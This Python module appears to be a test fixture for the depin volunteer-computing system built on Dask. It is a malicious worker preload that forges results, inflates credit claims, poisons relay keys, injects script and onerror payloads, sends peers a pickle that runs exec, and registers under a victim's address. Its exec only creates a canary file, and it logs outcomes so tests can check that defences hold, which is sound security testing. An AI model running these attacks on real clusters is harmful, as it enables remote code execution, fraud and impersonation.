"""A malicious volunteer, as a Dask worker preload: an ordinary worker token, no change to depin itself.

``DEPIN_ATTACKS`` (comma-separated) picks what it tries; ``DEPIN_ATTACK_LOG`` is a JSON-lines file where it
writes what happened to each attempt, so the test can tell a refused attack from one never tried:

* ``lie``: every float result it returns is shifted by 1e-3 (a wrong value).
* ``relay``: before sending its own result, it puts its payload under the keys of the cell's other
  replicas (``<key>~<volunteer>``) and under the cell's primary key, and 20 MiB of junk under unknown keys.
* ``credit``: it claims 1e6 CPU-seconds and 1e12 J per cell, and a benchmark a million times faster.
* ``display``: its cells display a `<script>`, an ``onerror=`` image and ``application/javascript``, and
  it sends a stream event for a run id it is not running.
* ``peer``: it dials the other volunteers' workers and nannies with its own certificate and sends them a
  message carrying a pickle that would create ``DEPIN_ATTACK_CANARY.<pid>`` where it is unpickled.
* ``hijack``: it registers a second worker under another volunteer's address.
"""

from __future__ import annotations

import asyncio
import json
import os
import pickle
import threading
import time

ATTACKS = set(filter(None, os.environ.get("DEPIN_ATTACKS", "").split(",")))
LOG = os.environ.get("DEPIN_ATTACK_LOG", "/dev/null")
CANARY = os.environ.get("DEPIN_ATTACK_CANARY", "/tmp/depin-attack-canary")


def log(what: str, **fields) -> None:
    with open(LOG, "a") as f:
        f.write(json.dumps({"attack": what, "time": time.time(), **fields}) + "\n")


class Canary:
    """Creates the canary file, named after the unpickling process, when unpickled."""

    def __reduce__(self):
        return (exec, (f"import os; open({CANARY!r} + '.' + str(os.getpid()), 'w').close()",))


def _shift(obj):
    import numpy as np

    if isinstance(obj, float):
        return obj + 1e-3
    if isinstance(obj, np.ndarray) and obj.dtype.kind == "f":
        return obj + 1e-3
    if isinstance(obj, dict):
        return {k: _shift(v) for k, v in obj.items()}
    return obj


def _patch_runner(worker) -> None:
    from depin_jupyter.protocol import payloads
    from depin_jupyter.protocol.rpc import Coordinator
    from depin_jupyter.worker import relayed

    honest_to_payload = payloads.to_payload

    def to_payload(result):
        result = dict(result)
        if "lie" in ATTACKS and result.get("status") == "ok":
            result["outputs"] = _shift(result.get("outputs") or {})
        return honest_to_payload(result)

    relayed.to_payload = to_payload
    honest_run = relayed._run

    def run(spec, inputs, blob, w):
        payload, used, energy = honest_run(spec, inputs, blob, w)
        if "lie" in ATTACKS:  # the cell ran in the sandbox: change its result on the way out
            result = dict(payloads.from_payload(payload))
            if result.get("status") == "ok":
                result["outputs"] = _shift(result.get("outputs") or {})
            payload = honest_to_payload(result)
        if "display" in ATTACKS:
            from depin_jupyter.protocol.constants import STREAM_TOPIC

            w.log_event(STREAM_TOPIC, {"kind": "display", "run": spec["run_id"], "seq": 10_000,
                                       "data": {"text/html": "<script>window.PWNED=1</script><img src=x onerror='window.PWNED=2'>",
                                                "application/javascript": "window.PWNED=3", "text/plain": "innocent"},
                                       "metadata": {}})
            w.log_event(STREAM_TOPIC, {"kind": "stdout", "run": "someone-elses-run", "seq": 0, "text": "FORGED\n"})
            log("display", run=spec["run_id"])
        if "credit" in ATTACKS:
            used, energy = 1e6, {"energy_j": 1e12, "source": "nvml"}
        return payload, used, energy

    relayed._run = run
    honest_gateway = relayed.run_cell_gateway

    def run_cell_gateway(spec_data, inputs_data, blob, *rest):
        if "relay" in ATTACKS:
            key = str(worker.get_current_task())
            coordinator = Coordinator.of_worker(worker)
            primary = key.split("~", 1)[0]
            targets = {primary} | {f"{primary}~{n}" for n in _other_names(worker)}
            targets.discard(key)
            for target in sorted(targets):
                try:
                    coordinator.relay_put(target, b"\x00" * 64)
                    log("relay", key=target, outcome="accepted")
                except Exception as e:
                    log("relay", key=target, outcome=f"refused: {e}")
            try:
                coordinator.relay_put("depin-run-junk-" + os.urandom(4).hex(), b"\x00" * (20 << 20))
                log("junk", outcome="accepted")
            except Exception as e:
                log("junk", outcome=f"refused: {e}")
        return honest_gateway(spec_data, inputs_data, blob, *rest)

    relayed.run_cell_gateway = run_cell_gateway


def _other_names(worker) -> set[str]:
    """The other volunteers' names, as an attacker could know them (their certificates' common names)."""
    return set(filter(None, os.environ.get("DEPIN_ATTACK_VICTIMS", "").split(",")))


async def _peer_attack(worker) -> None:
    """Dial every other worker and nanny the attacker knows of, with a pickle inside the message."""
    from distributed.comm import connect
    from distributed.protocol.serialize import ToPickle

    args = worker.security.get_connection_args("worker")
    for address in filter(None, os.environ.get("DEPIN_ATTACK_PEERS", "").split(",")):
        try:
            comm = await connect(address, timeout=5, **args)
        except Exception as e:
            log("peer", address=address, outcome=f"no connection: {type(e).__name__}: {e}")
            continue
        try:
            await comm.write({"op": "run", "function": ToPickle(Canary()), "reply": True})
            await asyncio.wait_for(comm.read(), 5)
            log("peer", address=address, outcome="answered")
        except Exception as e:
            log("peer", address=address, outcome=f"closed: {type(e).__name__}")
        finally:
            comm.abort()


async def _hijack(worker) -> None:
    """Register a second worker at another volunteer's address with this volunteer's certificate."""
    from distributed.comm import connect

    victim = os.environ.get("DEPIN_ATTACK_HIJACK")
    if not victim:
        return
    args = worker.security.get_connection_args("worker")
    comm = await connect(worker.scheduler.address, timeout=5, **args)
    try:
        await comm.write({"op": "register-worker", "address": victim, "status": "running", "server_id": "x",
                          "nthreads": 1, "name": "hijacker", "now": time.time(), "resources": {},
                          "memory_limit": 1, "metrics": {}, "pid": os.getpid(), "services": {},
                          "local_directory": "/tmp", "versions": {}, "nanny": "", "extra": {},
                          "stimulus_id": "hijack", "reply": True})
        answer = await asyncio.wait_for(comm.read(), 10)
        log("hijack", victim=victim, outcome=str(answer)[:300])
    except Exception as e:
        log("hijack", victim=victim, outcome=f"closed: {type(e).__name__}: {e}")
    finally:
        comm.abort()


def dask_setup(worker) -> None:
    _patch_runner(worker)
    if "credit" in ATTACKS:
        worker.depin_benchmark = {"kind": "numpy", "seconds": 1e-9}

    def later() -> None:  # once registered: the attacks that need the network
        time.sleep(3)
        loop = worker.loop
        if "peer" in ATTACKS:
            asyncio.run_coroutine_threadsafe(_peer_attack(worker), loop.asyncio_loop).result(60)
        if "hijack" in ATTACKS:
            asyncio.run_coroutine_threadsafe(_hijack(worker), loop.asyncio_loop).result(60)
        log("ready")

    threading.Thread(target=later, daemon=True).start()
    log("loaded", pid=os.getpid(), name=str(worker.name))
    pickle.dumps(Canary())  # the canary pickles (the attacks are real)
